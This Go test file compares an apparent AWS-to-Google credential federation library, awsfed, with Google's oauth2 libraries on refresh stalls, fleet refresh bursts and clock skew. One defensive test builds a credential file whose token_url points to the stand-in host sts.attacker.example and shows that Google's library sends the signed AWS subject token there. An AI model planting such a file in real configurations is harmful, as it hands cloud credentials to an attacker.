package examples_test

import (
	"context"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/oauth2"
	"golang.org/x/oauth2/google"

	"github.com/awsfed/awsfed-go/awsfed"
	"github.com/awsfed/awsfed-go/awsfed/awsfedtest"
)

// What the README says of Google's libraries is measured here, next to awsfed, in one run.

func TestStallsOfADaySideBySide(t *testing.T) {
	const delay = 150 * time.Millisecond
	stalls := make(map[string]int)
	for name, contender := range contenders {
		synctest.Test(t, func(t *testing.T) {
			cloud := awsfedtest.New(awsfedtest.Options{})
			cloud.Inject(awsfedtest.Delay(awsfedtest.GoogleSTS, delay))
			cloud.Inject(awsfedtest.Delay(awsfedtest.IAMCredentials, delay))
			call := contender(t, cloud)
			require.NoError(t, call())
			for range 24 * 60 * 60 {
				start := time.Now()
				require.NoError(t, call())
				if time.Since(start) > time.Millisecond {
					stalls[name]++
				}
				time.Sleep(time.Second)
			}
			time.Sleep(3 * time.Hour) // until nobody holds a token: a bubble must not end before a refresh
		})
		t.Logf("%-25s %d stalls of one caller in a day", name, stalls[name])
	}
	assert.Zero(t, stalls["awsfed"])
	assert.Zero(t, stalls["cloud.google.com/go/auth"])
	assert.Equal(t, 24, stalls["golang.org/x/oauth2"])
}

func TestAFleetSideBySide(t *testing.T) {
	const fleet = 1000
	worst := make(map[string]int)
	for name, contender := range contenders {
		synctest.Test(t, func(t *testing.T) {
			cloud := awsfedtest.New(awsfedtest.Options{})
			var callers sync.WaitGroup
			for range fleet {
				call := contender(t, cloud)
				callers.Go(func() {
					for range 2 * 60 * 60 / 10 {
						assert.NoError(t, call())
						time.Sleep(10 * time.Second)
					}
				})
			}
			asked := func() int { return cloud.Count(awsfedtest.GoogleSTS) + cloud.Count(awsfedtest.IAMCredentials) }
			time.Sleep(time.Second - time.Nanosecond)
			for range 2*60*60 - 1 {
				before := asked()
				time.Sleep(time.Second)
				worst[name] = max(worst[name], asked()-before)
			}
			callers.Wait()
		})
		t.Logf("%-25s at most %d requests in any second after the first", name, worst[name])
	}
	// Each of 2,000 tokens has a chance of 1/360 at most to be refreshed in a given second: more
	// than 30 have one of 6e-14, and in any of 7,199 seconds of 4e-10.
	assert.LessOrEqual(t, worst["awsfed"], 30)
	assert.Equal(t, 2*fleet, worst["golang.org/x/oauth2"])
	assert.Equal(t, 2*fleet, worst["cloud.google.com/go/auth"])
}

func TestAWrongClockSideBySide(t *testing.T) {
	for _, skew := range []time.Duration{-11 * time.Hour, -20 * time.Minute, 20 * time.Minute, 11 * time.Hour} {
		for name, contender := range contenders {
			synctest.Test(t, func(t *testing.T) {
				cloud := awsfedtest.New(awsfedtest.Options{})
				cloud.SetClock(skew)
				err := contender(t, cloud)()
				if name == "awsfed" {
					assert.NoError(t, err, name)
				} else {
					assert.ErrorContains(t, err, "SignatureDoesNotMatch", name)
				}
			})
		}
	}
}

// A file's token_url of any host gets the subject token from Google's library; awsfed refuses the
// file.
func TestAFileOfAForeignHostSideBySide(t *testing.T) {
	const file = `{
		"type": "external_account",
		"audience": "//iam.googleapis.com/projects/912480652101/locations/global/workloadIdentityPools/my-aws-pool/providers/my-aws-provider",
		"subject_token_type": "urn:ietf:params:aws:token-type:aws4_request",
		"token_url": "http://sts.attacker.example/v1/token",
		"credential_source": {
			"environment_id": "aws1",
			"regional_cred_verification_url": "https://sts.{region}.amazonaws.com?Action=GetCallerIdentity&Version=2011-06-15"
		}
	}`
	_, err := awsfed.ConfigFromJSON([]byte(file), nil)
	require.ErrorContains(t, err, "token_url")

	t.Setenv("AWS_REGION", "us-east-1")
	t.Setenv("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
	t.Setenv("AWS_SECRET_ACCESS_KEY", "secret")
	var sentTo, subject string
	wire := &http.Client{Transport: seer(func(req *http.Request) {
		sentTo = req.URL.Host
		body, _ := io.ReadAll(req.Body)
		form, _ := url.ParseQuery(string(body))
		subject = form.Get("subject_token")
	})}
	credentials, err := google.CredentialsFromJSONWithType(context.WithValue(t.Context(), oauth2.HTTPClient, wire), []byte(file), google.ExternalAccount, awsfed.CloudPlatformScope)
	require.NoError(t, err)
	_, err = credentials.TokenSource.Token()
	assert.Error(t, err)
	assert.Equal(t, "sts.attacker.example", sentTo)
	assert.NotEmpty(t, subject)
}

// seer sees a request and lets nothing out.
type seer func(*http.Request)

func (s seer) RoundTrip(req *http.Request) (*http.Response, error) {
	s(req)
	return &http.Response{StatusCode: http.StatusTeapot, Body: http.NoBody, Request: req, Header: http.Header{}}, nil
}

func BenchmarkTokenAtHand(b *testing.B) {
	for name, contender := range contenders {
		b.Run(strings.ReplaceAll(name, "/", "_"), func(b *testing.B) {
			cloud := awsfedtest.New(awsfedtest.Options{})
			call := contender(b, cloud)
			if err := call(); err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			b.RunParallel(func(pb *testing.PB) {
				for pb.Next() {
					if err := call(); err != nil {
						b.Error(err)
						return
					}
				}
			})
		})
	}
}
